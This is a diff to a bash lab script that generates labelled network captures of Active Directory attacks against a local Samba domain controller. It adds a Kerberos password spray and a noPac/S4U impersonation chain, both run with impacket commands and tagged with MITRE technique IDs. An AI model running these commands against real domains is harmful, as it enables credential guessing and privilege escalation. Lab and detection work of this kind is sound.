@@ -380,6 +380,32 @@ sc_promotion() {
        client dig +noall +answer @$DC_IP _ldap._tcp.dc._msdcs.$DNSDOMAIN SRV
 }
 
+# a password spray that finds one: frank's password is the one sprayed
+sc_spray_success() {
+  local spray='Winter2024!'
+  step krb_spray_found "alice,bob,carol,eve.admin,svc_sql,frank" "Kerberos spray (1 password x 6 users); frank's is that password" T1110.003 \
+       "Default principal|krbtgt" "5 x KDC_ERR_PREAUTH_FAILED, then an AS-REP for frank" -- \
+       bash -c "for u in alice bob carol eve.admin svc_sql frank; do printf '%s\n' '$spray' | KRB5CCNAME=$CLDIR/ccache.spray client kinit \$u@$REALM 2>&1 | tail -1; done; KRB5CCNAME=$CLDIR/ccache.spray client klist"
+}
+
+# noPac (sAMAccountName spoofing) and S4U from a computer account an ordinary user adds
+sc_nopac_s4u() {
+  step locate_dc alice "DC locator lookup, as the tools do first" - "$DC_FQDN" "" -- \
+       client dig +noall +answer @$DC_IP _ldap._tcp.dc._msdcs.$DNSDOMAIN SRV
+  step addcomputer eve.admin "impacket addcomputer.py NOPAC01\$ (Samba grants ordinary users no machine account quota)" T1136.002 \
+       "Successfully added|already exists" "" -- \
+       imp addcomputer.py -computer-name 'NOPAC01$' -computer-pass 'NoPac#2024pass' -dc-ip $DC_IP "$DNSDOMAIN/eve.admin:$(pw eve.admin)"
+  step rename_to_dc alice "rename NOPAC01\$ to '$DC_NAME' (sAMAccountName without '\$') over sealed LDAP" T1098 - \
+       "Samba 4.17 refuses it (CVE-2021-42278 fix); the attempt is sealed" -- \
+       bash -c "printf '%s\n' '$(pw alice)' | client kinit alice@$REALM >/dev/null; printf 'dn: CN=NOPAC01,CN=Computers,$BASEDN\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: $DC_NAME\n' | client ldapmodify -Q -Y GSSAPI -H ldap://$DC_FQDN"
+  step tgt_dc_name - "getTGT.py for '$DC_NAME' (the DC's name without '\$') with the computer's password" T1068 - \
+       "the KDC knows no principal '$DC_NAME': the AS-REQ is the evidence" -- \
+       impfix getTGT.py -dc-ip $DC_IP "$DNSDOMAIN/$DC_NAME:NoPac#2024pass"
+  step getst_s4u 'NOPAC01$' "getST.py -spn cifs/$DC_FQDN -impersonate Administrator (S4U2self, then S4U2proxy to the DC)" T1550.003 - \
+       "no delegation is configured for NOPAC01\$: the KDC refuses, the requests are on the wire" -- \
+       impfix getST.py -spn cifs/$DC_FQDN -impersonate Administrator -dc-ip $DC_IP "$DNSDOMAIN/NOPAC01\$:NoPac#2024pass"
+}
+
 SCENARIOS=(
   "01_normal_logons|normal logons, service tickets, SMB, LDAP, DNS from two workstations (benign)|sc_normal"
   "02_password_spray|password spraying and brute force (Kerberos + NTLM)|sc_spray"
@@ -402,6 +428,8 @@ SCENARIOS=(
   "19_busy_hours|benign busy hours: many users, an RC4-only service account, typos, NTLM applications|sc_busy"
   "20_dc_promotion|a second DC joins the domain and replicates (legitimate)|sc_promotion"
   "21_busy_hours_two_dcs|benign busy hours with the second DC up|sc_busy"
+  "22_spray_success|a password spray that finds a password|sc_spray_success"
+  "23_nopac_s4u|noPac (a TGT for the DC's name without its \$) and S4U from an added computer account|sc_nopac_s4u"
 )
 
 scenarios_list() { local s; for s in "${SCENARIOS[@]}"; do IFS='|' read -r key title _ <<<"$s"; printf '%-28s %s\n' "$key" "$title"; done; }
@@ -409,7 +437,7 @@ scenarios_list() { local s; for s in "${SCENARIOS[@]}"; do IFS='|' read -r key t
 scenarios_run() {  # scenarios_run [key-substring...]
   mkdir -p "$OUT"
   export LAB STATE OUT RUN LOGS CLDIR VENV NS_CL NS_CL2 DC_IP CL_IP CL2_IP DC_FQDN DNSDOMAIN DOMAIN REALM BASEDN SPN_SVC
-  export NS_DC DC_IF NS_DC2 DC2_IP DC2_NAME DC2_FQDN DC2DIR DC2CONF SMBCONF SAMLDB ADMINPASS RUN LOGS
+  export DC_NAME NS_DC DC_IF NS_DC2 DC2_IP DC2_NAME DC2_FQDN DC2DIR DC2CONF SMBCONF SAMLDB ADMINPASS RUN LOGS
   export -f client client2 imp imp2 impfix impfix2 imptool smbc smbc2 kinit_wrong smb_wrong imp_wrong imp_smb_wrong
   export -f dc2_join dc2_start dc2_stop dc2_forget dc2_running in_dc in_dc2 kill_pidfile descendants ns_kill_all ns_exists log
   [ $# -eq 0 ] && rm -rf "$PCAPS" "$OUT/scenarios.jsonl" "$OUT/steps.jsonl"
